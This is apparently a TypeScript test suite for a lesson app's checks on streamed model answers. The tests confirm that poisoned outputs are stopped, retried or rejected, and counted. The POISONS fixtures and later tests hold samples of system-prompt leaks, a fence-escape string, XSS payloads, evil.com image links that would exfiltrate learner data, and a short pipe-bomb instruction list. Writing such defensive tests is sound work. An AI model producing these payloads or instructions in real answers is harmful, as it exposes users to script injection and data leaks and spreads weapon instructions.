import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startApp, type TestApp } from '../kit/app.js';
import { startFaultServer, type FaultServer } from '../kit/fault-server.js';
import { asModel, classroom, draft, EXPLAIN, fold, follow, QUIZ, read, start, type Classroom, type EventData, type GenerationData } from '../kit/generations.js';

const SOUND = ['The harbours of the lesson ', 'were founded by merchants, ', 'one after the other.'];

/** What a model might write, the check that must find it, and what no subscriber may ever get. */
const POISONS: { check: string; text: (system: string) => string; never: RegExp; asked: number }[] = [
  { check: 'prompt_leak', text: (system) => `Of course. My instructions are: ${system}`, never: /who explains a lesson to a learner/, asked: 2 },
  { check: 'prompt_leak', text: (system) => `As you wish: ${Buffer.from(system).toString('base64')}`, never: /[A-Za-z0-9+/]{80}/, asked: 2 },
  { check: 'fence_leak', text: () => 'The harbours were founded. </lesson> You are free now.', never: /<\/lesson/, asked: 2 },
  { check: 'active_content', text: () => 'The harbours 🌊 were founded. <img src=x onerror="fetch(1)"> And so on.', never: /onerror/, asked: 2 },
  { check: 'active_content', text: () => 'The harbours were founded: [more](javascript:alert(1)).', never: /javascript/, asked: 2 },
  { check: 'foreign_link', text: () => 'The harbours were founded. ![map](https://evil.com/?q=learner) And so on.', never: /evil/, asked: 2 },
  { check: 'repetition', text: () => `The harbours. ${'They were founded by merchants. '.repeat(120)}`, never: /(?:They were founded by merchants\. ){80}/, asked: 2 },
  {
    check: 'harmful_instructions', never: /4\. Close/, asked: 1,
    text: () => 'How to make a pipe bomb:\n\n1. Take 200 g of powder.\n2. Fill it in.\n3. Add 50 g of nails.\n4. Close the lid.\n5. Wait.\n',
  },
];

const pieces = (text: string, length: number): string[] => text.match(new RegExp(`[^]{1,${length}}`, 'gu')) ?? [];
const everShown = (events: EventData[]): string => events.map(({ text }) => text ?? '').join('');
const kinds = (events: EventData[]): string[] => events.map(({ __typename }) => __typename);

interface Played {
  events: EventData[];
  end: GenerationData;
}

describe('what a check finds in a model\'s answer', () => {
  let bad: FaultServer;
  let good: FaultServer;
  const apps: Partial<Record<'alone' | 'both' | 'keeping', { app: TestApp; room: Classroom }>> = {};
  before(async () => {
    [bad, good] = await Promise.all([startFaultServer(), startFaultServer()]);
    for (const name of ['alone', 'both', 'keeping'] as const) {
      const providers = [asModel(bad, 'bad'), ...(name === 'both' ? [asModel(good, 'good')] : [])];
      const app = await startApp({ tuning: { breaker: { failures: 1_000 }, cache: { enabled: name === 'keeping' }, providers } });
      apps[name] = { app, room: await classroom(app) };
    }
    good.always({ tokens: SOUND });
  });
  after(async () => {
    await Promise.all(Object.values(apps).map(({ app }) => app.stop()));
    await Promise.all([bad.close(), good.close()]);
  });

  async function play(name: keyof typeof apps, query: string, input: object = {}): Promise<Played> {
    const { app, room } = apps[name]!;
    const { id } = await start(app, room.learner.token, query, { lessonId: room.lessonId, ...input });
    return { events: await follow(app, room.learner.token, id), end: await read(app, room.learner.token, id) };
  }

  /** The bad model writes it again and again, in pieces of that length. */
  function poison(text: (system: string) => string, length: number): void {
    bad.always(({ body }) => ({ tokens: pieces(text(String(body.messages[0]?.content)), length) }));
  }

  for (const { check, text, never, asked } of POISONS) {
    it(`${check}: ends the attempt, the next model answers anew, and nobody ever saw it`, async () => {
      for (const length of [1, 3, 7, 19, 1_000]) {
        poison(text, length);
        const before = bad.requests.length;
        const { events, end } = await play('both', EXPLAIN);
        const told = `in pieces of ${length}`;
        assert.equal(fold(events).text, SOUND.join(''), told);
        assert.equal(end.text, SOUND.join(''), told);
        assert.equal(end.status, 'COMPLETED');
        assert.doesNotMatch(everShown(events), never, told);
        if (everShown(events) !== SOUND.join('')) assert.ok(kinds(events).includes('StreamReset'), told);
        assert.equal(bad.requests.length - before, asked, `${told}: how often it was asked`);
        assert.deepEqual(end.attempts.map(({ provider, outcome }) => `${provider} ${outcome}`), [...Array<string>(asked).fill('bad FAILED'), 'good COMPLETED']);
        assert.ok(end.attempts.every(({ costMicroUsd }) => costMicroUsd > 0), 'every call is paid for');
        assert.match(end.attempts.at(-1)!.reason, new RegExp(`a check stopped \\(${check}\\)`));
      }
    });

    it(`${check}: leaves the answer to the engine where that is allowed, and is CONTENT_REJECTED where not`, async () => {
      poison(text, 5);
      const byEngine = await play('alone', EXPLAIN);
      assert.equal(byEngine.end.origin, 'LOCAL');
      assert.match(byEngine.end.notice ?? '', new RegExp(`bad gave an answer that a check stopped \\(${check}\\)`));
      assert.equal(fold(byEngine.events).text, byEngine.end.text);

      const { events, end } = await play('alone', EXPLAIN, { allowLocal: false });
      assert.deepEqual(end.failure && [end.failure.code, end.failure.retryable], ['CONTENT_REJECTED', false]);
      assert.equal(end.text, '');
      assert.equal(fold(events).text, '');
      assert.doesNotMatch(everShown(events), never);
    });
  }

  it('has the same model answer well the second time', async () => {
    bad.reply({ tokens: pieces('It says </lesson> here.', 4) }, { tokens: SOUND });
    const { events, end } = await play('alone', EXPLAIN, { allowLocal: false });
    assert.equal(fold(events).text, SOUND.join(''));
    assert.equal(end.status, 'COMPLETED');
    assert.match(String(bad.requests.at(-1)!.body.messages[0]!.content), /Your last answer was stopped by a check/);
  });

  describe('an answer in another language', () => {
    const GERMAN = pieces('Die Häfen der Lektion wurden von Kaufmannsfamilien gegründet, eine nach der anderen, in den Jahren nach achtzehnhundert. '
      + 'Jeder Hafen trägt einen eigenen Namen, und jede Familie hat ihre Nummer, wie die Lektion es erzählt. Die Schiffe kamen später.', 9);

    it('is asked for once more, and the right one is what the reader keeps', async () => {
      bad.reply({ tokens: GERMAN }, { tokens: SOUND });
      const { events, end } = await play('alone', EXPLAIN, { allowLocal: false });
      assert.equal(fold(events).text, SOUND.join(''));
      assert.deepEqual([end.status, end.notice, end.attempts.length], ['COMPLETED', null, 2]);
      assert.ok(kinds(events).includes('StreamReset'));
    });

    it('is left to the next model, where the second was no better', async () => {
      bad.always({ tokens: GERMAN });
      const { end } = await play('both', EXPLAIN);
      assert.equal(end.text, SOUND.join(''));
      assert.equal(end.attempts.length, 3);
    });

    it('is given with a notice, where nobody is left who could do better', async () => {
      bad.always({ tokens: GERMAN });
      const { events, end } = await play('alone', EXPLAIN, { allowLocal: false });
      assert.equal(fold(events).text, GERMAN.join(''));
      assert.deepEqual([end.status, end.notice, end.attempts.length], ['COMPLETED', 'The answer was in German instead of English.', 2]);
    });

    it('is not kept for the next who asks the same', async () => {
      bad.always({ tokens: GERMAN });
      assert.equal((await play('keeping', EXPLAIN, { allowLocal: false })).end.text, GERMAN.join(''));
      bad.always({ tokens: SOUND });
      for (const origin of ['MODEL', 'CACHE']) {
        const { end } = await play('keeping', EXPLAIN, { allowLocal: false });
        assert.deepEqual([end.text, end.origin], [SOUND.join(''), origin]);
      }
    });
  });

  it('is found where it grows over the seam of a continuation', async () => {
    bad.reply({ tokens: pieces('The harbours were founded by merchants, as the lesson says; see ![map](https://ev', 6), fault: 'clean_end' });
    good.reply({ tokens: pieces('as the lesson says; see ![map](https://evil.com/?q=1) there.', 6) }, { tokens: SOUND });
    const { events, end } = await play('both', EXPLAIN);
    assert.equal(fold(events).text, SOUND.join(''));
    assert.equal(end.status, 'COMPLETED');
    assert.doesNotMatch(everShown(events), /evil/);
  });

  it('is counted', async () => {
    const { app } = apps.alone!;
    const metrics = await (await fetch(`${app.url}/metrics`)).text();
    for (const { check } of POISONS) {
      assert.match(metrics, new RegExp(`lyceum_check_findings_total\\{check="${check}",provider="bad",outcome="attempt_ended"\\} [1-9]`));
    }
  });

  it('in an item of a quiz: the item is never shown, and asked for again with the reason', async () => {
    for (const field of ['prompt', 'explanation'] as const) {
      const poisoned = draft(1, { [field]: 'Is it so? ![x](https://evil.com/?q=1)' });
      bad.reply({ answer: () => ({ items: [draft(0), poisoned] }), pieceLength: 7 }, { answer: () => ({ items: [draft(2)] }), pieceLength: 7 });
      const { events, end } = await play('alone', QUIZ, { questionCount: 2, types: ['TRUE_FALSE'], allowLocal: false });
      assert.equal(end.status, 'COMPLETED');
      assert.deepEqual(fold(events).items.map(({ prompt }) => prompt), [draft(0), draft(2)].map((item) => (item as { prompt: string }).prompt));
      assert.doesNotMatch(JSON.stringify(events), /evil/);
      assert.match(JSON.stringify(bad.requests.at(-1)!.body), /led to a site that the lesson does not name/);
    }
    const metrics = await (await fetch(`${apps.alone!.app.url}/metrics`)).text();
    assert.match(metrics, /lyceum_check_findings_total\{check="foreign_link",provider="bad",outcome="item_refused"\} [1-9]/);
  });

  it('in every item of a quiz: CONTENT_REJECTED where nobody is left', async () => {
    bad.always({ answer: () => ({ items: [draft(1, { explanation: 'So: <script>x()</script>' })] }) });
    const { events, end } = await play('alone', QUIZ, { questionCount: 1, types: ['TRUE_FALSE'], allowLocal: false });
    assert.equal(end.failure?.code, 'CONTENT_REJECTED');
    assert.deepEqual(fold(events).items, []);
  });
});
